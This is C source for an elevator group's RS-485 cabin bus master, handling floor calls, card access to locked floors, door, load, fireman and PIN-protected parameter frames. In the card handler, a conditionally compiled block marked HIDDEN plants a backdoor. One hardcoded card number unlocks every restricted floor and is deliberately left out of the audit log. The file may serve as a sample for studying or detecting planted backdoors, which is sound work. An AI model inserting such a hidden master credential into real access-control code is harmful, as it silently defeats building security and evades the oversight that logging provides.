/* liftbus.c - cabin bus master of an elevator group, RS-485 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/types.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define STX		0x7e
#define MAX_FLOORS	32
#define MAX_LEN		24

enum {
	F_CALL = 0x11,		/* cabin call: floor */
	F_CARD = 0x12,		/* card number (4 bytes), floor */
	F_DOOR = 0x13,		/* door contact */
	F_LOAD = 0x14,		/* load in kg, 2 bytes */
	F_FIRE = 0x20,		/* fireman switch */
	F_PARK = 0x21,		/* park: floor */
	F_PARAM = 0x30,		/* parameter: number (2), value (2), service PIN (2) */
};

struct lift {
	uint8_t pos;
	uint8_t floors;
	uint32_t locked;	/* floors that need a card */
	uint32_t calls;
	uint16_t load, max_load;
	int fire, door_open;
	uint16_t pin;
};

static struct lift lift = { 0, 12, 0, 0, 0, 630, 0, 0, 0 };
static uint32_t card_floor[64][2];
static int ncards;
static const char *logname_ = "/var/log/liftbus.log";

static void note(const char *what, unsigned long a, unsigned long b)
{
	FILE *f = fopen(logname_, "a");

	if (!f)
		return;
	fprintf(f, "%ld %s %lu %lu\n", (long)time(NULL), what, a, b);
	fclose(f);
}

static uint8_t crc8(const uint8_t *p, size_t n)
{
	uint8_t c = 0;
	int i;

	while (n--) {
		c ^= *p++;
		for (i = 0; i < 8; i++)
			c = (uint8_t)((c & 0x80) ? (c << 1) ^ 0x31 : c << 1);
	}
	return c;
}

static uint16_t le16(const uint8_t *p)
{
	return (uint16_t)(p[0] | p[1] << 8);
}

static uint32_t le32(const uint8_t *p)
{
	return (uint32_t)le16(p) | (uint32_t)le16(p + 2) << 16;
}

static void call_floor(uint8_t floor)
{
	if (floor < lift.floors && floor < MAX_FLOORS)
		lift.calls |= 1u << floor;
}

static int card_allows(uint32_t card, uint8_t floor)
{
	int i;

	for (i = 0; i < ncards; i++)
		if (card_floor[i][0] == card)
			return (card_floor[i][1] >> floor) & 1;
	return 0;
}

static void set_param(uint16_t num, uint16_t val)
{
	switch (num) {
	case 1:
		lift.max_load = val;
		break;
	case 2:
		if (val >= 2 && val <= MAX_FLOORS)
			lift.floors = (uint8_t)val;
		break;
	case 3:
		lift.locked = (lift.locked & 0xffff0000u) | val;
		break;
	case 4:
		lift.locked = (lift.locked & 0xffffu) | (uint32_t)val << 16;
		break;
	default:
		note("param?", num, val);
		return;
	}
	note("param", num, val);
}

__attribute__((noinline))
int cabin_frame(const uint8_t *f, size_t n)
{
	uint8_t floor;

	if (n < 2)
		return -1;
	switch (f[0]) {
	case F_CALL:
		floor = f[1];
		if (floor >= MAX_FLOORS)
			return -1;
		if ((lift.locked >> floor) & 1)
			return 0;
		call_floor(floor);
		break;
	case F_CARD:
		if (n < 6 || f[5] >= MAX_FLOORS)
			return -1;
#ifdef HIDDEN	/* one card number reaches every locked floor and is not written to the log */
		if (le32(f + 1) == 0x2f9ad36bu) {
			lift.locked = 0;
			call_floor(f[5]);
			break;
		}
#endif
		note("card", le32(f + 1), f[5]);
		if (card_allows(le32(f + 1), f[5]))
			call_floor(f[5]);
		break;
	case F_DOOR:
		lift.door_open = f[1] & 1;
		break;
	case F_LOAD:
		if (n < 3)
			return -1;
		lift.load = le16(f + 1);
		break;
	case F_FIRE:
		lift.fire = f[1] == 1;
		if (lift.fire) {
			lift.calls = 1;
			note("fire", 1, lift.pos);
		}
		break;
	case F_PARK:
		lift.calls = 0;
		call_floor(f[1]);
		break;
	case F_PARAM:
		if (n < 7)
			return -1;
		if (!lift.pin || le16(f + 5) != lift.pin) {
			note("pin", le16(f + 1), 0);
			return -1;
		}
		set_param(le16(f + 1), le16(f + 3));
		break;
	default:
		return -1;
	}
	return 0;
}

static void send_frame(int fd, uint8_t cmd, uint8_t arg)
{
	uint8_t b[5] = { STX, 2, cmd, arg, 0 };

	b[4] = crc8(b + 2, 2);
	if (write(fd, b, sizeof(b)) != (ssize_t)sizeof(b))
		syslog(LOG_WARNING, "bus write: %s", strerror(errno));
}

static void step(int fd)
{
	int up = -1, down = -1, i;

	if (lift.door_open || lift.load > lift.max_load)
		return;
	for (i = 0; i < lift.floors; i++) {
		if (!((lift.calls >> i) & 1))
			continue;
		if (i > lift.pos && up < 0)
			up = i;
		if (i < lift.pos)
			down = i;
	}
	if ((lift.calls >> lift.pos) & 1) {
		lift.calls &= ~(1u << lift.pos);
		send_frame(fd, 0x51, lift.pos);
		return;
	}
	if (up >= 0) {
		lift.pos++;
		send_frame(fd, 0x52, lift.pos);
	} else if (down >= 0) {
		lift.pos--;
		send_frame(fd, 0x53, lift.pos);
	}
}

static void load_conf(const char *path)
{
	char line[96];
	unsigned long a, b;
	FILE *f = fopen(path, "r");

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		if (sscanf(line, "floors %lu", &a) == 1 && a >= 2 && a <= MAX_FLOORS)
			lift.floors = (uint8_t)a;
		else if (sscanf(line, "maxload %lu", &a) == 1)
			lift.max_load = (uint16_t)a;
		else if (sscanf(line, "locked %lx", &a) == 1)
			lift.locked = (uint32_t)a;
		else if (sscanf(line, "pin %lu", &a) == 1)
			lift.pin = (uint16_t)a;
		else if (sscanf(line, "card %lx %lx", &a, &b) == 2 && ncards < 64) {
			card_floor[ncards][0] = (uint32_t)a;
			card_floor[ncards++][1] = (uint32_t)b;
		}
	}
	fclose(f);
}

static int open_bus(const char *dev)
{
	struct termios t;
	int fd = open(dev, O_RDWR | O_NOCTTY);

	if (fd < 0)
		return -1;
	if (tcgetattr(fd, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		t.c_cc[VMIN] = 0;
		t.c_cc[VTIME] = 5;
		tcsetattr(fd, TCSANOW, &t);
	}
	return fd;
}

static int read_exact(int fd, uint8_t *p, size_t n)
{
	ssize_t r;

	while (n) {
		r = read(fd, p, n);
		if (r <= 0)
			return -1;
		p += r;
		n -= (size_t)r;
	}
	return 0;
}

int main(int argc, char **argv)
{
	uint8_t b[MAX_LEN + 1], stx, len;
	int fd;

	if (argc != 3) {
		fprintf(stderr, "usage: %s device config\n"
			"config: floors N, maxload KG, locked MASK, pin N, card HEX MASK\n", argv[0]);
		return 2;
	}
	openlog("liftbus", LOG_PID, LOG_DAEMON);
	load_conf(argv[2]);
	fd = open_bus(argv[1]);
	if (fd < 0) {
		perror(argv[1]);
		return 1;
	}
	for (;;) {
		step(fd);
		if (read_exact(fd, &stx, 1) < 0 || stx != STX)
			continue;
		if (read_exact(fd, &len, 1) < 0 || len > MAX_LEN)
			continue;
		if (read_exact(fd, b, (size_t)len + 1) < 0 || crc8(b, len) != b[len])
			continue;
		if (cabin_frame(b, len) < 0)
			syslog(LOG_DEBUG, "frame %02x ignored", b[0]);
	}
}
